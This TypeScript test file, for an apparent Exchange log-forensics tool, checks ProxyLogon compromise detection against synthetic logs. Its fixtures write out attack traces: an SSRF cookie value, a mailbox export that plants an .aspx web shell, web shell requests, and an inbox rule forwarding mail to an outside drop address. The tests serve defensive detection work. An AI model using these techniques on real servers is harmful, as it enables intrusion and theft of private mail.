import assert from 'node:assert/strict';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { mergedTimeline } from '../correlate/timeline.js';
import { consoleReport } from '../report/console.js';
import { scan } from './run.js';
import { ewsLog, httpProxyLog, iisLog, messageTrackingLog, rpsCmdletLog } from './test-helpers.js';

// Small bundles where the right answer is known, checked exactly: whose mailboxes, how far, and
// what the logs cannot see.
let dir: string;
const ATTACKER = '203.0.113.5';
const SECOND = '198.51.100.9';

async function put(path: string, text: string): Promise<void> {
  await mkdir(join(dir, path, '..'), { recursive: true });
  await writeFile(join(dir, path), text);
}

before(async () => {
  dir = await mkdtemp(join(tmpdir(), 'exir-story-'));
  // Case 1, EX01: the SSRF, then EWS reads two mailboxes, then a third is exported by cmdlet.
  await put(
    'ews-case/EX01/HttpProxy/Ews/HttpProxy_2021030302-1.LOG',
    httpProxyLog('EX01', [
      {
        DateTime: '2021-03-03T02:00:00.000Z',
        RequestId: 'r1',
        Protocol: 'Ews',
        UrlStem: '/ecp/x.js',
        AnchorMailbox: 'ServerInfo~a]@EX01.corp.local:444/ews/exchange.asmx?#',
        ClientIpAddress: ATTACKER,
        UserAgent: 'python-requests/2.25.1',
        HttpStatus: '200',
        Method: 'POST',
      },
      {
        DateTime: '2021-03-03T02:00:30.000Z',
        RequestId: 'r9',
        Protocol: 'Owa',
        UrlStem: '/owa/',
        ClientIpAddress: '192.0.2.44',
        UserAgent: 'Mozilla/5.0',
        HttpStatus: '200',
        Method: 'GET',
        AuthenticatedUser: 'eve@corp.je',
      },
    ]),
  );
  await put(
    'ews-case/EX01/Ews/Ews_2021030302-1.LOG',
    ewsLog('EX01', [
      {
        DateTime: '2021-03-03T02:01:00.000Z',
        RequestId: 'e1',
        SoapAction: 'GetItem',
        AuthenticatedUser: 'alice@corp.je',
        ClientIpAddress: ATTACKER,
        HttpStatus: '200',
      },
      {
        DateTime: '2021-03-03T02:02:00.000Z',
        RequestId: 'e2',
        SoapAction: 'FindItem',
        AuthenticatedUser: 'bob@corp.je',
        ClientIpAddress: ATTACKER,
        HttpStatus: '200',
      },
      {
        DateTime: '2021-03-03T02:02:30.000Z',
        RequestId: 'e3',
        SoapAction: 'GetFolder',
        AuthenticatedUser: 'dave@corp.je',
        ClientIpAddress: ATTACKER,
        HttpStatus: '200',
      },
      // The same mailbox read by its owner from elsewhere is not the attacker's doing.
      {
        DateTime: '2021-03-03T02:03:00.000Z',
        RequestId: 'e4',
        SoapAction: 'GetItem',
        AuthenticatedUser: 'eve@corp.je',
        ClientIpAddress: '192.0.2.44',
        HttpStatus: '200',
      },
    ]),
  );
  await put(
    'ews-case/EX01/Rps_Cmdlet/Rps_Cmdlet_2021030302-1.LOG',
    rpsCmdletLog('EX01', [
      {
        DateTime: '2021-03-03T02:10:00.000Z',
        Cmdlet: 'New-MailboxExportRequest',
        Parameters: '-Mailbox "carol@corp.je" -FilePath "\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx"',
        AuthenticatedUser: 'NT AUTHORITY\\SYSTEM',
        ExecutionResult: 'Success',
      },
    ]),
  );

  // Case 2, EX03: a web shell used from two addresses; one of them also browsed OWA.
  await put(
    'shell-case/EX03/W3SVC1/u_ex210304.log',
    iisLog([
      `2021-03-04 10:00:00 10.0.0.3 POST /aspnet_client/shell.aspx - 443 - ${ATTACKER} Mozilla/5.0 - 200 0 0 10`,
      `2021-03-04 11:00:00 10.0.0.3 POST /aspnet_client/shell.aspx - 443 - ${SECOND} Mozilla/5.0 - 200 0 0 10`,
      `2021-03-04 11:05:00 10.0.0.3 GET /owa/ - 443 - ${SECOND} Mozilla/5.0 - 302 0 0 10`,
      '2021-03-04 11:06:00 10.0.0.3 GET /owa/ - 443 - 192.0.2.77 Mozilla/5.0 - 302 0 0 10',
    ]),
  );

  // Case 4, EX04: after the SSRF, an inbox rule forwards alice's mail out; days later tracking shows it leaving.
  await put(
    'forward-case/EX04/HttpProxy/Ecp/HttpProxy_2021030302-1.LOG',
    httpProxyLog('EX04', [
      {
        DateTime: '2021-03-03T02:00:00.000Z',
        RequestId: 'f1',
        Protocol: 'Ecp',
        UrlStem: '/ecp/x.js',
        AnchorMailbox: 'ServerInfo~a]@EX04.corp.local:444/ecp/proxyLogon.ecp?#',
        ClientIpAddress: ATTACKER,
        UserAgent: 'python-requests/2.25.1',
        HttpStatus: '241',
        Method: 'POST',
      },
    ]),
  );
  await put(
    'forward-case/EX04/Rps_Cmdlet/Rps_Cmdlet_2021030302-1.LOG',
    rpsCmdletLog('EX04', [
      {
        DateTime: '2021-03-03T02:05:00.000Z',
        Cmdlet: 'New-InboxRule',
        Parameters: '-Mailbox "alice@corp.je" -Name "x" -ForwardTo "drop@mail.example"',
        AuthenticatedUser: 'NT AUTHORITY\\SYSTEM',
        ExecutionResult: 'Success',
      },
    ]),
  );
  await put(
    'forward-case/EX04/MessageTracking/MSGTRK2021030609-1.LOG',
    messageTrackingLog('EX04', [
      {
        'date-time': '2021-03-06T09:00:00.000Z',
        'event-id': 'SEND',
        source: 'SMTP',
        'sender-address': 'alice@corp.je',
        'recipient-address': 'drop@mail.example',
        'message-subject': 'Client KYC pack',
        'server-hostname': 'EX04',
      },
      {
        'date-time': '2021-03-06T09:05:00.000Z',
        'event-id': 'SEND',
        source: 'SMTP',
        'sender-address': 'bob@corp.je',
        'recipient-address': 'partner@law.example',
        'message-subject': 'Lunch',
        'server-hostname': 'EX04',
      },
    ]),
  );

  // Case 3, EX02: logs that start after the ProxyLogon window opened, and no attack in them.
  await put(
    'late-case/EX02/HttpProxy/Owa/HttpProxy_2021030509-1.LOG',
    httpProxyLog('EX02', [
      {
        DateTime: '2021-03-05T09:00:00.000Z',
        RequestId: 'q1',
        Protocol: 'Owa',
        UrlStem: '/owa/',
        ClientIpAddress: '192.0.2.10',
        UserAgent: 'Mozilla/5.0',
        HttpStatus: '200',
        Method: 'GET',
      },
    ]),
  );
});
after(async () => {
  await rm(dir, { recursive: true, force: true });
});

test('an attack that reads two mailboxes through EWS and exports a third', async () => {
  const result = await scan({ inputs: [join(dir, 'ews-case')], threads: 1 });
  const named = result.mailboxes.filter((m) => m.mailbox !== '*').map((m) => [m.mailbox, m.level, m.firstTime]);
  assert.deepEqual(named.sort(), [
    ['alice@corp.je', 'read', '2021-03-03T02:01:00.000Z'],
    ['bob@corp.je', 'read', '2021-03-03T02:02:00.000Z'],
    ['carol@corp.je', 'exported', '2021-03-03T02:10:00.000Z'],
    ['dave@corp.je', 'reachable', '2021-03-03T02:02:30.000Z'],
  ]);
  const carol = result.mailboxes.find((m) => m.mailbox === 'carol@corp.je');
  assert.match(carol?.how[0] ?? '', /New-MailboxExportRequest/);
  assert.equal(carol?.evidence[0]?.line, 6);
  assert.ok(!result.mailboxes.some((m) => m.mailbox === 'eve@corp.je'), "the owner's own use is not the attacker's");
  // The export succeeded, so every mailbox on the server was in reach, and the tool says so.
  const all = result.mailboxes.find((m) => m.mailbox === '*');
  assert.equal(all?.server, 'EX01');
  assert.equal(all?.level, 'reachable');

  assert.equal(result.sessions.length, 1);
  const session = result.sessions[0];
  assert.deepEqual(session?.attackerIps, [ATTACKER]);
  assert.deepEqual(session?.stages, ['exploit-attempt', 'exploited']);
  assert.deepEqual(
    session?.entries.map((e) => [e.time, e.kind, e.source]),
    [
      ['2021-03-03T02:00:00.000Z', 'finding', 'httpproxy'],
      ['2021-03-03T02:00:00.000Z', 'finding', 'httpproxy'],
      ['2021-03-03T02:01:00.000Z', 'activity', 'ews'],
      ['2021-03-03T02:02:00.000Z', 'activity', 'ews'],
      ['2021-03-03T02:02:30.000Z', 'activity', 'ews'],
      ['2021-03-03T02:10:00.000Z', 'finding', 'rps-cmdlet'],
    ],
  );
  const ex01 = result.servers.find((s) => s.name === 'EX01');
  assert.equal(ex01?.verdict, 'exploited');
  assert.match(
    ex01?.summary ?? '',
    /^exploited: a mailbox was exported into a web folder to plant a web shell at 02:10 UTC on 3 March 2021 and used from 1 IP address$/,
  );
});

test('a web shell with full reach: every mailbox, both users of the shell, their other requests', async () => {
  const result = await scan({ inputs: [join(dir, 'shell-case')], threads: 1 });
  assert.deepEqual(
    result.mailboxes.map((m) => [m.mailbox, m.server, m.level]),
    [['*', 'EX03', 'reachable']],
  );
  assert.match(result.mailboxes[0]?.how[0] ?? '', /every mailbox on EX03 was within the attacker's reach at 10:00 UTC on 4 March 2021/);
  assert.equal(result.sessions.length, 1);
  assert.deepEqual(result.sessions[0]?.attackerIps, [SECOND, ATTACKER].sort());
  assert.deepEqual(result.sessions[0]?.webShells, ['/aspnet_client/shell.aspx']);
  const activity = result.sessions[0]?.entries.filter((e) => e.kind === 'activity') ?? [];
  assert.deepEqual(
    activity.map((e) => [e.clientIp, e.fields['cs-uri-stem']]),
    [[SECOND, '/owa/']],
    "the second user's OWA visit is pulled in; a stranger's is not",
  );
  const timeline = mergedTimeline(result);
  assert.deepEqual([...new Set(timeline.map((e) => e.origin.line))], [5, 6, 7], 'both shell requests and the pulled-in visit, nothing else');
  assert.ok(timeline.every((e) => e.session === 'S1'));
});

test('logs that start after the attack window opened are a gap, said as plainly as a finding', async () => {
  const result = await scan({ inputs: [join(dir, 'late-case')], threads: 1 });
  const ex02 = result.servers.find((s) => s.name === 'EX02');
  assert.equal(ex02?.verdict, 'clean');
  const statements = result.coverage.filter((c) => c.server === 'EX02').flatMap((c) => c.gaps.map((g) => g.statement));
  assert.ok(
    statements.includes('HttpProxy logs on EX02 start on 2021-03-05: the 2021-01-06..2021-03-05 part of the ProxyLogon window cannot be assessed from them.'),
    statements.join('\n'),
  );
  assert.ok(
    statements.some(
      (s) => s === 'No IIS logs from EX02 are in the evidence: requests to web shells and the ProxyShell/ProxyNotShell SSRF cannot be seen on it.',
    ),
  );
  assert.ok(statements.some((s) => s.startsWith('No ECP Server logs from EX02')));
  assert.match(ex02?.wouldChange ?? '', /logs from those periods could change this/);
  const httpproxy = result.coverage.find((c) => c.server === 'EX02' && c.source === 'httpproxy');
  assert.deepEqual([httpproxy?.files, httpproxy?.records, httpproxy?.firstTime], [1, 1, '2021-03-05T09:00:00.000Z']);
});

test('mail the attacker had forwarded is found in message tracking, days after the rule was set', async () => {
  const result = await scan({ inputs: [join(dir, 'forward-case')], threads: 1 });
  const alice = result.mailboxes.find((m) => m.mailbox === 'alice@corp.je');
  assert.equal(alice?.level, 'exported');
  assert.deepEqual(alice?.forwardedTo, ['drop@mail.example']);
  assert.deepEqual(
    result.mail.map((m) => [m.time, m.sender, m.recipients, m.subject, m.why, m.origin.line]),
    [
      [
        '2021-03-06T09:00:00.000Z',
        'alice@corp.je',
        'drop@mail.example',
        'Client KYC pack',
        'sent to drop@mail.example, where the attacker had mail forwarded',
        6,
      ],
    ],
  );
});

test('a clean verdict from logs that miss the exploitation windows says so in its own sentence', async () => {
  const result = await scan({ inputs: [join(dir, 'late-case')], threads: 1 });
  const ex02 = result.servers.find((s) => s.name === 'EX02');
  assert.equal(ex02?.verdict, 'clean');
  assert.match(ex02?.summary ?? '', /^clean in what the logs cover: .*; they do not cover 2021-01-06\.\.2021-03-05 of the ProxyLogon window/);
  assert.ok(ex02?.uncovered?.includes('2021-01-06..2021-03-05 of the ProxyLogon window'));
  assert.match(consoleReport(result), /EX02.*CLEAN.* in what the logs cover/);
});

test('IIS logs for 20 to 28 February only: clean, but not of the days of mass exploitation after them', async () => {
  await put('feb-case/EX05/W3SVC1/u_ex210220.log', iisLog(['2021-02-20 08:00:00 10.0.0.5 GET /owa/ - 443 - 10.0.0.9 Mozilla/5.0 - 200 0 0 5']));
  await put('feb-case/EX05/W3SVC1/u_ex210228.log', iisLog(['2021-02-28 08:00:00 10.0.0.5 GET /owa/ - 443 - 10.0.0.9 Mozilla/5.0 - 200 0 0 5']));
  const result = await scan({ inputs: [join(dir, 'feb-case')], threads: 1 });
  const ex05 = result.servers.find((s) => s.name === 'EX05');
  assert.equal(ex05?.verdict, 'clean');
  assert.deepEqual(ex05?.uncovered, ['2021-01-06..2021-02-20 of the ProxyLogon window', '2021-02-28..2021-03-02 of the ProxyLogon window']);
  assert.match(ex05?.summary ?? '', /^clean in what the logs cover: /);
});
